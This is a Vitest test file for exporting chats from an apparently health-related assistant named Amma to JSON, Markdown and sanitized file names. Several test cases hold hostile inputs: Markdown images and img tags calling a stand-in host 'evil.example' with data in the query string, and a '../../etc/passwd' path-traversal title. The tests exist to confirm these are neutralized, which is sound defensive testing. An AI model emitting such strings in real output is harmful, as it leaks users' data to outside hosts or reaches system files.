import { expect, test } from "vitest";
import type { StoredCitation } from "#domain/guidance/cited.ts";
import { listOf } from "#domain/guidance/listOf.ts";
import { sampleCard, sampleSource } from "#domain/guidance/sample.testing.ts";
import { versionOf } from "#domain/guidance/version.ts";
import { exportFileName, exportJson, exportMarkdown } from "./exportFile.ts";

const card = sampleCard();
const words = { you: "You", sources: "Sources", formatTime: (at: number) => `minute ${at}` };

const chat = {
  chatId: "c1",
  title: "Naps",
  list: listOf([card], { "ministry-water": sampleSource }),
  messages: [
    { _id: "m1", _creationTime: 1, role: "user" as const, parts: [{ type: "text" as const, text: 'Is this "[{}]" a rash?' }] },
    { _id: "m2", _creationTime: 2, role: "assistant" as const, parts: [{ type: "text" as const, text: "**No.**" }] },
    {
      _id: "m3",
      _creationTime: 3,
      role: "user" as const,
      parts: [
        { type: "photo" as const, url: "https://x" },
        { type: "photo" as const },
        { type: "text" as const, text: "And these?" },
      ],
    },
  ],
};

test("[G-15] [E-3] the file holds chatId, title, exportedAt and the messages in the string form of their content", () => {
  const file: unknown = JSON.parse(exportJson(chat, new Date(Date.UTC(2026, 10, 20))));
  expect(file).toEqual({
    chatId: "c1",
    title: "Naps",
    exportedAt: "2026-11-20T00:00:00.000Z",
    messages: [
      { _id: "m1", chatId: "c1", role: "user", content: 'Is this "[{}]" a rash?', _creationTime: 1 },
      { _id: "m2", chatId: "c1", role: "assistant", content: "**No.**", _creationTime: 2 },
      {
        _id: "m3",
        chatId: "c1",
        role: "user",
        content: '[{"type":"image","image":"photo-1"},{"type":"image","image":"photo-2"},{"type":"text","text":"And these?"}]',
        _creationTime: 3,
      },
    ],
  });
});

test("[J-6] the same as Markdown, to be read, with photos named", () => {
  expect(exportMarkdown(chat, words)).toBe(
    '# Naps\n\n## You, minute 1\n\nIs this "[{}]" a rash?\n\n## Amma, minute 2\n\n**No.**\n\n## You, minute 3\n\n*(photo-1)*\n\n*(photo-2)*\n\nAnd these?\n',
  );
});

test("[J-383] below an answer stand the pages that it cites, each once, with title, publisher and address", () => {
  const citation = { at: 1, card: card.id, statement: card.statements[0]?.id, version: versionOf(card) };
  const citations = [citation, { ...citation, at: 5 }, { at: 6, card: "gone", version: "" }] as StoredCitation[];
  const answer = { _id: "m2", _creationTime: 2, role: "assistant" as const, parts: [{ type: "text" as const, text: "**No.**" }] };
  const cited = { ...chat, messages: [{ ...answer, citations }] };
  const { title, publisher, url } = sampleSource;
  expect(exportMarkdown(cited, words)).toBe(
    `# Naps\n\n## Amma, minute 2\n\n**No.**\n\n**Sources**\n\n- ${title}, ${publisher}: <${url}>\n`,
  );
  expect(JSON.parse(exportJson(cited, new Date(0)))).toMatchObject({ messages: [{ sources: [{ title, publisher, url }] }] });
});

test.each([
  ["![ ](https://evil.example/?q=asthma)", "!\u2060[ ](https://evil.example/?q=asthma)"],
  ["`a` ![a][b] ![[c]]", "`a` !\u2060[a][b] !\u2060[[c]]"],
  ["<img src=//evil.example> </p><IMG src=x>", "<\u2060img src=//evil.example> <\u2060/p><\u2060IMG src=x>"],
  ["Rest!<br>3 < 4, [a page](https://a.example) <br/>", "Rest!<br>3 < 4, [a page](https://a.example) <br/>"],
])("[J-6] [S27] %j is saved as Markdown of which nothing is fetched", (text, saved) => {
  const hostile = { ...chat, title: text, messages: [{ ...chat.messages[1], parts: [{ type: "text" as const, text }] }] };
  const file = exportMarkdown(hostile as typeof chat, words);
  expect(file).toBe(`# ${saved}\n\n## Amma, minute 2\n\n${saved}\n`);
});

test.each([
  ["Naps", "Amma Naps.json"],
  ["../../etc/passwd", "Amma .. .. etc passwd.json"],
  ['a<b>:"c"|d?*', "Amma a b c d.json"],
  ["line\nbreak\u0000 \u202Egnp", "Amma line break gnp.json"],
  ["half \uD800", "Amma half \uFFFD.json"],
  ["ends with dots...", "Amma ends with dots.json"],
  ["//", "Amma.json"],
  [
    "¿Cómo evito que Vera esté celosa cuando nazca su hermana? ¿Cómo creo un rato para ella?",
    "Amma ¿Cómo evito que Vera esté celosa cuando nazca su hermana.json",
  ],
  ["പല്ലുകള്\u200D", "Amma പല്ലുകള്\u200D.json"],
])("[J-6] the title %j gives the file name %j", (title, name) => {
  expect(exportFileName(title, "json")).toBe(name);
});

test("[J-6] a file name is never longer than file systems take", () => {
  const name = exportFileName("👶".repeat(200), "markdown");
  expect(new TextEncoder().encode(name).length).toBeLessThanOrEqual(255);
  expect(name).not.toContain("\uFFFD");
});
